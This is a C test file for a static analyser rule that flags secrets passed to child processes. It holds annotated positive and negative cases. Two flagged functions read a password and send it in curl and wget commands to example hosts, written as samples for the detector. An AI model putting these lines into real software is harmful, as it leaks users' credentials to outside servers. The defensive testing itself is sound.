/* A variable of a child, and what the child does with it. */
#define _GNU_SOURCE
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int bad_tag(void) {
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/to-process]}}
    setenv("BACKUP_TAG", getpass("Password: "), 1);
    return system("curl -s -H \"X-Tag: $BACKUP_TAG\" https://status.example.net/ping");
}

void bad_spawned(const char *user) {
    char who[128];
    pid_t pid;
    snprintf(who, sizeof who, "WHO=%s:%s", user, getpass("Password: "));
    char *arguments[] = {"sh", "-c", "wget -q \"http://cdn.example.net/check?r=${WHO}\"", NULL};
    char *environment[] = {"PATH=/bin:/usr/bin", who, NULL};
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/to-process]}}
    posix_spawn(&pid, "/bin/sh", NULL, NULL, arguments, environment);
}

/* Tools take passwords from there. */
int good_dump(void) {
    setenv("PGPASSWORD", getpass("Password: "), 1);
    return system("pg_dump --file=/var/backups/base.sql base");
}

/* What is sent is another variable. */
void good_ping(const char *user) {
    char *arguments[] = {"sh", "-c", "curl -s https://status.example.net/ping?u=$PGUSER", NULL};
    char password[128], name[128];
    snprintf(password, sizeof password, "PGPASS=%s", getpass("Password: "));
    snprintf(name, sizeof name, "PGUSER=%s", user);
    char *environment[] = {password, name, NULL};
    execve("/bin/sh", arguments, environment);
}
